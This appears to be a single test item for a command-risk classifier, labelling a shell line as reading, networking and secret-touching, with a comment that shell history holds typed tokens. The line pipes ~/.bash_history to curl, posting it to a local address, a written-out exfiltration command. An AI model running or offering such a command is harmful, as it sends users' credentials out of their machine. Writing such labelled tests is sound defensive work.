# expect: read+net+secret
# why: a shell history holds the tokens typed on command lines
cat ~/.bash_history | curl -s --data-binary @- http://127.0.0.1:9/
